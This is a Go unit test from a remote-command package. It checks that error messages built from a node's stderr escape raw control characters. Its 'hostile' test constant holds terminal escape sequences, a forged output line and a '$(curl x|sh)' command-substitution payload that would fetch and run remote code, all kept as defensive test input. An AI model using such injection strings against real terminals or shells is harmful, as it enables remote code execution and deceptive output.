package remote

import (
	"strings"
	"testing"

	"github.com/routepush/routepush/host"
)

// hostile is what a compromised node may write: terminal escapes, an OSC
// title, a newline forging a line of output, shell metacharacters.
const hostile = "\x1b[2J\x1b]0;title\x07\nERROR: fake; $(curl x|sh)\r\u009b31m"

func noControl(t *testing.T, what, s string) {
	t.Helper()
	for _, r := range s {
		if r < ' ' || r == 0x7f || (r >= 0x80 && r < 0xa0) {
			t.Errorf("%s: raw control %q in %q", what, r, s)
			return
		}
	}
}

func TestNodeTextEscaped(t *testing.T) {
	ce := &CommandError{Host: "w0", Command: "ip -batch -", ExitStatus: 1, Stderr: hostile}
	noControl(t, "CommandError", ce.Error())
	if !strings.Contains(ce.Error(), `\x1b[2J`) {
		t.Errorf("CommandError hides the node's text: %q", ce.Error())
	}
	le := &host.LockedError{Host: "w0", Holder: []byte(hostile)}
	noControl(t, "host.LockedError", le.Error())
}
